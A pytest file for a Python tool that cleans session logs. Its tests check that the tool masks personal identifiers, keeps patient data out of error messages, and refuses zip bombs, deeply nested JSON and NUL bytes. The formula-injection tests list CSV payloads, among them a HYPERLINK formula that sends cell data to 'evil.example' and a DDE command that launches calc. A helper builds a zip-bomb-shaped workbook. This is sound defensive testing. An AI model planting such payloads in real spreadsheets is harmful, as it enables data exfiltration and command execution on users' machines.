"""Hostile inputs: identifiers in free text, formula payloads, bombs, NULs, long headers,
deep JSON, headerless exports and odd workbooks. Each gets a clear one-line error or a
quarantined row with its reason; never a traceback, a silent drop or a raw identifier in
what the tool writes or says (issue 10, sections 3, 4 and 7)."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from mfr_analysis.clean import clean_sessions
from mfr_analysis.cli import app
from mfr_analysis.config import CLEANING_REPORT_FILE, QUARANTINE_FILE, SESSIONS_FILE
from mfr_analysis.io import write_table
from mfr_analysis.pipeline import run_clean
from mfr_analysis.read import InputError, read_logs

HEX_KEY = "5f0c3a9e7b1d4c2a8e6f0b3d5a7c9e1f2b4d6f8a0c2e4a6b8d0f1e3c5a7b9d2f"
KEY = bytes.fromhex(HEX_KEY)
HEADER = ["Client ID", "Visit Date", "Group", "Technique", "Site", "Pain Before",
          "Pain After", "Duration"]
GOOD = ["c1", "2024-03-05", "athlete", "foam roller", "North", "7", "4", "20"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"^\s*[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)(?:[eE][+-]?\d+)?\s*$")


@pytest.fixture(autouse=True)
def _strong_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MFR_PSEUDONYM_KEY", HEX_KEY)


def _write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    buffer = io.StringIO()  # every cell quoted: a CR-led cell stays one cell
    csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([header, *rows])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _row(**changes: str) -> list[str]:
    names = ["client", "date", "group", "technique", "site", "pre", "post", "duration"]
    values = dict(zip(names, GOOD, strict=True))
    values.update(changes)
    return [values[n] for n in names]


def _balanced(report: dict) -> bool:
    return report["rows_in"] == (report["rows_clean"] + report["rows_quarantined"]
                                 + report["rows_duplicate"])


def _clean(path: Path) -> tuple[pd.DataFrame, pd.DataFrame, dict]:
    result = clean_sessions(read_logs([path]).frame, key=KEY)
    assert _balanced(result.report)
    return result.sessions, result.quarantine, result.report


def _quarantine_cells(out: Path) -> list[list[str]]:
    with (out / QUARANTINE_FILE).open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# ---------------------------------------------------------------------------------------------
# A. identifier-shaped values never leave the tool verbatim

IDENTIFIERS = {
    "email": "jane.doe@example.org",
    "phone": "07700 900123",
    "intl_phone": "+44 7700 900456",
    "ssn": "123-45-6789",
    "card": "4111 1111 1111 1111",
}


def test_identifiers_in_any_column_are_masked_in_quarantine_with_a_reason(
        tmp_path: Path) -> None:
    rows = [
        _row(),
        _row(client="c2", technique=IDENTIFIERS["email"]),
        _row(client="c3", pre=IDENTIFIERS["phone"]),
        _row(client="c4", date=IDENTIFIERS["intl_phone"]),
        _row(client="c5", group=f"athlete {IDENTIFIERS['ssn']}"),
        _row(client="c6", site=IDENTIFIERS["card"]),
        _row(client="c7", site=f"North, call {IDENTIFIERS['phone']}"),
        _row(client="c8", duration=IDENTIFIERS["email"]),
    ]
    path = _write_csv(tmp_path / "export.csv", rows)
    out = tmp_path / "out"
    report = run_clean([path], out, progress=False)
    assert _balanced(report)
    assert report["rows_clean"] == 1 and report["reasons"]["identifier_in_text"] == 7
    text = (out / QUARANTINE_FILE).read_text(encoding="utf-8")
    for value in IDENTIFIERS.values():
        assert value not in text
    for digits in ("900123", "900456", "6789", "1111"):
        assert digits not in text
    quarantine = pd.read_csv(out / QUARANTINE_FILE, dtype=str, keep_default_na=False)
    by_line = quarantine.set_index("source_line")
    assert by_line.loc["3", "technique"] == "[email]"
    assert by_line.loc["4", "pain_pre"] == "[phone]"
    assert by_line.loc["5", "session_date"] == "[phone]"
    assert by_line.loc["6", "audience_group"] == "athlete [id]"
    assert by_line.loc["7", "site"] == "[card]"
    assert by_line.loc["8", "site"] == "North, call [phone]"
    assert "identifier_in_text:technique" in by_line.loc["3", "reason_detail"]
    assert all("identifier_in_text" in r for r in quarantine["reasons"])


def test_an_identifier_shaped_site_never_reaches_the_clean_table(tmp_path: Path) -> None:
    rows = [_row(), _row(client="c2", site=IDENTIFIERS["email"]),
            _row(client="c3", site="North, call 07700 900123")]
    path = _write_csv(tmp_path / "export.csv", rows)
    out = tmp_path / "out"
    run_clean([path], out, progress=False)
    table = pq.read_table(out / SESSIONS_FILE)
    site = table["site"].combine_chunks()
    names = site.dictionary.to_pylist() if pa.types.is_dictionary(site.type) else []
    assert names == ["North"] and set(site.to_pylist()) == {"North"}
    assert b"example.org" not in (out / SESSIONS_FILE).read_bytes()
    assert b"900123" not in (out / SESSIONS_FILE).read_bytes()


def test_identifier_shaped_headers_are_masked_in_the_cleaning_report(tmp_path: Path) -> None:
    header = [*HEADER, "call 07700 900123", "x" * 500]
    path = _write_csv(tmp_path / "export.csv", [[*_row(), "a", "b"]], header)
    out = tmp_path / "out"
    run_clean([path], out, progress=False)
    text = (out / CLEANING_REPORT_FILE).read_text(encoding="utf-8")
    assert "900123" not in text and "call [phone]" in text and "x" * 300 not in text


# ---------------------------------------------------------------------------------------------
# B. error messages never echo a patient's row

PATIENT = ["Jane Doe", "1971-07-14", "jane.doe@example.org", "07700 900123", "athlete",
           "2024-03-05", "7", "4"]


def test_a_headerless_export_is_refused_without_echoing_its_first_row(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text(",".join(PATIENT) + "\n" + ",".join(PATIENT) + "\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        read_logs([path])
    message = str(caught.value)
    assert message.startswith("export.csv:") and "header" in message
    result = CliRunner().invoke(app, ["clean", str(path), "--out", str(tmp_path / "out"),
                                      "--no-progress"])
    assert result.exit_code == 2 and len(result.stderr.strip().splitlines()) == 1
    for shown in (message, result.stderr):
        for value in ("Jane", "Doe", "1971", "07-14", "jane.doe", "example.org", "07700",
                      "900123"):
            assert value not in shown


def test_headers_in_a_message_are_short_excerpts(tmp_path: Path) -> None:
    header = ["Name", "Visit Date", "A very long column heading indeed"]
    path = _write_csv(tmp_path / "export.csv", [["a", "2024-03-05", "b"]], header)
    with pytest.raises(InputError) as caught:
        read_logs([path])
    message = str(caught.value)
    assert "'Visit Date'" in message and "'A very long…'" in message  # a header, in short
    assert "heading indeed" not in message
    header = ["Patient jane.doe@example.org", "Visit Date", "Phone 07700 900123"]
    path = _write_csv(tmp_path / "export.csv", [["a", "2024-03-05", "b"]], header)
    with pytest.raises(InputError) as caught:
        read_logs([path])
    message = str(caught.value)  # a row holding an identifier is data: not echoed at all
    assert "jane.doe" not in message and "900123" not in message and "Visit" not in message


def test_the_last_guard_does_not_echo_data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                           ) -> None:
    import mfr_analysis.pipeline as pipeline

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("bad row: " + ",".join(PATIENT))

    monkeypatch.setattr(pipeline, "run_clean", broken)
    monkeypatch.delenv("MFR_DEBUG", raising=False)
    path = _write_csv(tmp_path / "export.csv", [_row()])
    result = CliRunner().invoke(app, ["clean", str(path), "--out", str(tmp_path / "out"),
                                      "--no-progress"])
    assert result.exit_code == 1 and "unexpected RuntimeError" in result.stderr
    for value in ("Jane", "1971", "jane.doe", "07700", "900123"):
        assert value not in result.stderr


# ---------------------------------------------------------------------------------------------
# C. formula injection: every CSV cell is a number or starts harmlessly

PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3+cmd", "\t=1+1", "\r=1+1", "=1+1", "\uff1dcmd"]


def _assert_harmless(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert NUMBER.match(cell) or not cell.startswith(DANGEROUS), repr(cell)
            assert not cell.lstrip(" \n").startswith(DANGEROUS) or NUMBER.match(cell), repr(cell)


def _payload_rows() -> list[list[str]]:
    rows = [_row()]
    for i, payload in enumerate(PAYLOADS):
        rows.append(_row(client=payload, technique=payload, site=payload, group=payload,
                         pre=payload, date="2024-03-06"))
        rows.append(_row(client=f"c{i}", site=payload, post="-2", duration="-0.5"))
    return rows


def test_quarantine_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    path = _write_csv(tmp_path / "export.csv", _payload_rows())
    out = tmp_path / "out"
    report = run_clean([path], out, progress=False)
    assert _balanced(report) and report["rows_quarantined"] == 2 * len(PAYLOADS)
    rows = _quarantine_cells(out)
    _assert_harmless(rows)
    quarantine = pd.read_csv(out / QUARANTINE_FILE, dtype=str, keep_default_na=False)
    assert set(quarantine["pain_post"]) >= {"-2"} and set(quarantine["duration_min"]) >= {"-0.5"}
    assert "'@SUM(1)" in set(quarantine["technique"])
    assert "'-2+3+cmd" in set(quarantine["site"])
    assert all(c.startswith("c_") for c in quarantine["client_id"])  # pseudonymised


def test_claims_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    table = pd.DataFrame({"claim_id": ["pain", *PAYLOADS], "estimate": [-2.0] + [0.5] * 8,
                          "note": ["-"] + PAYLOADS[::-1]})
    target = write_table(table, tmp_path / "claims.csv", "csv")
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    _assert_harmless(rows)
    assert rows[1][1] == "-2.0"
    back = pd.read_csv(target)
    assert back["estimate"].tolist() == table["estimate"].tolist()


# ---------------------------------------------------------------------------------------------
# D. bombs and limits


def _workbook(path: Path, rows: list[list[object]], header: list[str] = HEADER) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Sessions"
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _padded_workbook(path: Path, padding: int) -> Path:
    """A valid workbook whose sheet XML carries ``padding`` bytes of white space: a few KB
    on disk that expand to megabytes (the shape of a zip bomb)."""
    small = _workbook(path.with_name("small.xlsx"), [GOOD])
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</worksheet>", b" " * padding + b"</worksheet>")
            target.writestr(item.filename, data, compress_type=zipfile.ZIP_DEFLATED)
    return path


def test_an_xlsx_zip_bomb_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    path = _padded_workbook(tmp_path / "bomb.xlsx", 4 << 20)
    assert path.stat().st_size < 64 << 10
    with pytest.raises(InputError, match=r"bomb\.xlsx: .*zip bomb.*MFR_MAX_COMPRESSION_RATIO"):
        read_logs([path])
    result = CliRunner().invoke(app, ["clean", str(path), "--out", str(tmp_path / "out"),
                                      "--no-progress"])
    assert result.exit_code == 2 and len(result.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "out" / SESSIONS_FILE).exists()


def test_xlsx_uncompressed_size_and_rows_are_limited(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    path = _workbook(tmp_path / "book.xlsx", [_row(client=f"c{i}") for i in range(30)])
    assert len(read_logs([path]).frame) == 30
    monkeypatch.setenv("MFR_MAX_UNCOMPRESSED_BYTES", "5000")
    with pytest.raises(InputError, match="expands to .*MFR_MAX_UNCOMPRESSED_BYTES"):
        read_logs([path])
    monkeypatch.delenv("MFR_MAX_UNCOMPRESSED_BYTES")
    monkeypatch.setenv("MFR_MAX_ROWS", "20")
    with pytest.raises(InputError, match="too many rows.*MFR_MAX_ROWS"):
        read_logs([path])


def test_an_xlsx_asking_for_millions_of_empty_cells_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for i in range(2, 40):  # one far-away cell per row: openpyxl fills 16,000 blanks each
        sheet.append(_row(client=f"c{i}"))
        sheet.cell(row=i, column=16_000, value="x")
    book.save(tmp_path / "wide.xlsx")
    monkeypatch.setenv("MFR_MAX_CELLS", "100000")
    with pytest.raises(InputError, match="too many cells.*MFR_MAX_CELLS"):
        read_logs([tmp_path / "wide.xlsx"])


def test_parquet_rows_and_size_are_checked_from_its_metadata(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    frame = pd.DataFrame([_row(client=f"c{i}") for i in range(50)], columns=HEADER)
    frame.to_parquet(tmp_path / "logs.parquet", index=False)
    assert len(read_logs([tmp_path / "logs.parquet"]).frame) == 50
    monkeypatch.setenv("MFR_MAX_ROWS", "10")
    with pytest.raises(InputError, match="50 rows.*MFR_MAX_ROWS"):
        read_logs([tmp_path / "logs.parquet"])
    monkeypatch.delenv("MFR_MAX_ROWS")
    monkeypatch.setenv("MFR_MAX_UNCOMPRESSED_BYTES", "100")
    with pytest.raises(InputError, match="uncompressed.*MFR_MAX_UNCOMPRESSED_BYTES"):
        read_logs([tmp_path / "logs.parquet"])


def test_compressed_text_and_bad_limits_are_one_line_errors(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plain = _write_csv(tmp_path / "logs.csv", [_row()])
    packed = tmp_path / "logs.csv.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    with pytest.raises(InputError, match="gzip-compressed.*decompress it first"):
        read_logs([packed])
    monkeypatch.setenv("MFR_MAX_ROWS", "lots")
    with pytest.raises(InputError, match="MFR_MAX_ROWS must be a positive whole number"):
        read_logs([_workbook(tmp_path / "b.xlsx", [GOOD])])


# ---------------------------------------------------------------------------------------------
# D. deep JSON, NUL bytes, long headers


def test_a_deeply_nested_json_line_is_quarantined_and_the_others_read(tmp_path: Path) -> None:
    good = {"client": "c1", "date": "2024-03-05", "group": "athlete", "pain_pre": 7}
    lines = [json.dumps(good),
             '{"client": "c2", "date": "2024-03-06", "group": "athlete", "pain_pre": '
             + "[" * 100_000 + "]" * 100_000 + "}",
             "[" * 100_000,
             '{"client": "c3", "date": "2024-03-07", "group": "athlete", "pain_pre": '
             + "1" * 5000 + "}",
             json.dumps({**good, "client": "c4"})]
    path = tmp_path / "logs.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    sessions, quarantine, report = _clean(path)
    assert sorted(sessions["source_line"]) == [1, 5]
    assert quarantine["source_line"].tolist() == [2, 3, 4]
    assert all("malformed_row" in r for r in quarantine["reasons"])
    detail = quarantine["reason_detail"].tolist()
    assert all("malformed_row:row (JSON nested too deeply)" in d for d in detail[:2])
    assert "malformed_row:row (not a JSON object)" in detail[2]  # a 5000-digit number
    assert report["rows_in"] == 5


def test_a_deeply_nested_json_array_is_one_line_error(tmp_path: Path) -> None:
    path = tmp_path / "logs.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(InputError, match=r"logs.json: not valid JSON \(nested too deeply\)"):
        read_logs([path])


@pytest.mark.parametrize("position", ["early", "late"])
def test_a_nul_byte_quarantines_its_row_wherever_it_is(tmp_path: Path, position: str) -> None:
    filler = [_row(client=f"c{i}", date="2024-03-06") for i in range(3000)]  # > 64 KiB
    bad = _row(client="cx", site="North\x00Clinic")
    rows = [_row(), bad, *filler] if position == "early" else [_row(), *filler, bad]
    path = _write_csv(tmp_path / "logs.csv", rows)
    assert (path.read_bytes().index(b"\x00") < 1 << 16) == (position == "early")
    out = tmp_path / "out"
    report = run_clean([path], out, progress=False)
    assert _balanced(report) and report["rows_quarantined"] == 1
    assert report["rows_clean"] == 3001
    quarantine = pd.read_csv(out / QUARANTINE_FILE, dtype=str, keep_default_na=False)
    assert quarantine["reasons"].tolist() == ["malformed_row"]
    assert quarantine["reason_detail"].tolist() == ["malformed_row:site (NUL or control character)"]
    assert quarantine["site"].tolist() == ["North\ufffdClinic"]
    assert b"\x00" not in (out / QUARANTINE_FILE).read_bytes()
    sites = pd.read_parquet(out / SESSIONS_FILE)["site"]
    assert set(sites.cat.categories) == {"North"}


def test_a_nul_in_other_formats_quarantines_its_row(tmp_path: Path) -> None:
    frame = pd.DataFrame([_row(), _row(client="c2", site="No\x00rth"),
                          _row(client="c3", technique="foam\x00roller")], columns=HEADER)
    frame.to_parquet(tmp_path / "logs.parquet", index=False)
    records = [dict(zip(HEADER, r, strict=True)) for r in frame.to_numpy().tolist()]
    (tmp_path / "logs.jsonl").write_text("\n".join(json.dumps(r) for r in records) + "\n",
                                         encoding="utf-8")  # \u0000 escapes
    for path in (tmp_path / "logs.parquet", tmp_path / "logs.jsonl"):
        sessions, quarantine, _ = _clean(path)
        assert len(sessions) == 1 and len(quarantine) == 2, path.name
        assert all("malformed_row" in r for r in quarantine["reasons"])


def test_a_binary_file_renamed_csv_is_one_line_error(tmp_path: Path) -> None:
    png = tmp_path / "photo.csv"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(2000) + b"IHDR" + bytes(range(256)) * 4)
    with pytest.raises(InputError, match="photo.csv: not a text table"):
        read_logs([png])
    blob = tmp_path / "blob.csv"
    blob.write_bytes(b"Client ID,Visit Date\n" + bytes(4000))
    with pytest.raises(InputError, match="blob.csv: not a text table .binary content"):
        read_logs([blob])


def test_a_header_longer_than_the_sniff_sample_is_read_whole(tmp_path: Path) -> None:
    extras = [f"unused extra column number {i:05d}" for i in range(3000)]  # ~100 KB header
    header = [*extras, *HEADER]
    rows = [[""] * len(extras) + _row(client=f"c{i}") for i in range(5)]
    path = _write_csv(tmp_path / "wide.csv", rows, header)
    assert path.read_bytes().index(b"\n") > 1 << 16
    sessions, quarantine, report = _clean(path)
    assert len(sessions) == 5 and len(quarantine) == 0


def test_a_first_line_beyond_the_header_limit_is_one_line_error(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "oneline.csv"
    path.write_text("Client ID,Visit Date," + "x," * 100_000 + "\nc1,2024-03-05\n",
                    encoding="utf-8")
    monkeypatch.setenv("MFR_MAX_HEADER_BYTES", "100000")
    with pytest.raises(InputError,
                       match="first line is too long.*100,000 bytes.*MFR_MAX_HEADER_BYTES"):
        read_logs([path])


# ---------------------------------------------------------------------------------------------
# D. merged cells and formulas without a saved result in xlsx


def test_xlsx_merged_cells_take_their_top_left_value(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(_row(client="c1"))
    sheet.append(_row(client="", date="2024-03-06", pre="6"))
    sheet.append(_row(client="", date="2024-03-07", pre="5"))
    sheet.append(_row(client="c2", group="senior"))
    sheet.append(_row(client="c3", group=""))
    sheet.merge_cells("A2:A4")  # one client, three sessions
    sheet.merge_cells("C5:C6")  # one group for two clients
    book.save(tmp_path / "merged.xlsx")
    sessions, quarantine, report = _clean(tmp_path / "merged.xlsx")
    assert len(quarantine) == 0 and len(sessions) == 5
    clients = sessions.set_index("source_line")["client_id"]
    assert clients[2] == clients[3] == clients[4] != clients[5]
    groups = sessions.set_index("source_line")["audience_group"].astype(str)
    assert groups[5] == groups[6] == "senior"
    assert report["rows_in"] == 5


def test_xlsx_formula_without_a_saved_value_quarantines_its_row(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([*HEADER, "Notes"])
    sheet.append(_row(client="c1"))
    sheet.append([*_row(client="c2")[:6], "=F3-2", "20", None])  # pain after: a formula
    sheet.append([*_row(client="c3"), "=1+1"])  # a formula in a dropped column: harmless
    book.save(tmp_path / "formulas.xlsx")
    sessions, quarantine, report = _clean(tmp_path / "formulas.xlsx")
    assert sorted(sessions["source_line"]) == [2, 4]
    assert quarantine["source_line"].tolist() == [3]
    assert quarantine["reasons"].tolist() == ["formula_without_value"]
    assert quarantine["reason_detail"].tolist() == ["formula_without_value:pain_post"]
    assert report["reasons"] == {"formula_without_value": 1}
    info = read_logs([tmp_path / "formulas.xlsx"]).sources[0]
    assert info["formula_cells_without_value"] == 1
    # the same workbook as a spreadsheet program saves it (a result beside each formula)
    saved = tmp_path / "saved.xlsx"
    with zipfile.ZipFile(tmp_path / "formulas.xlsx") as source, \
            zipfile.ZipFile(saved, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb"<v\s*/>|<v></v>", b"<v>5</v>", data)
            target.writestr(item.filename, data, compress_type=zipfile.ZIP_DEFLATED)
    sessions, quarantine, _ = _clean(saved)
    assert len(quarantine) == 0
    assert sessions.set_index("source_line").loc[3, "pain_post"] == 5.0


def test_outputs_of_hostile_files_balance_and_have_no_raw_identifier(tmp_path: Path) -> None:
    rows = _payload_rows() + [_row(client="cz", site="x\x00y", pre="jane@example.org")]
    path = _write_csv(tmp_path / "mixed.csv", rows)
    out = tmp_path / "out"
    report = run_clean([path], out, progress=False)
    assert _balanced(report)
    saved = json.loads((out / CLEANING_REPORT_FILE).read_text(encoding="utf-8"))
    assert saved["rows_in"] == len(rows)
    _assert_harmless(_quarantine_cells(out))
    assert b"jane@example.org" not in (out / QUARANTINE_FILE).read_bytes()


def test_the_dask_engine_writes_the_same_safe_quarantine(tmp_path: Path, cluster: str) -> None:
    from mfr_analysis.dask_clean import run_clean_dask

    logs = tmp_path / "logs"
    logs.mkdir()
    _write_csv(logs / "a.csv", [*_payload_rows(), _row(client="cy", technique="j@example.org")])
    filler = [_row(client=f"c{i}", date="2024-03-06") for i in range(2000)]  # > 64 KiB
    _write_csv(logs / "b.csv", [*filler, _row(client="cz", site="x\x00y", pre="07700 900123"),
                                *filler[:50]])
    run_clean([logs], tmp_path / "pandas", progress=False)
    report = run_clean_dask([logs], tmp_path / "dask", scheduler=cluster, blocksize=16 << 10,
                            progress=False)
    assert report["engine"]["partitions"] > 2 and _balanced(report)
    pandas_bytes = (tmp_path / "pandas" / QUARANTINE_FILE).read_bytes()
    assert (tmp_path / "dask" / QUARANTINE_FILE).read_bytes() == pandas_bytes
    _assert_harmless(_quarantine_cells(tmp_path / "dask"))
    assert b"j@example.org" not in pandas_bytes and b"900123" not in pandas_bytes
    assert b"\x00" not in pandas_bytes and "x\ufffdy".encode() in pandas_bytes
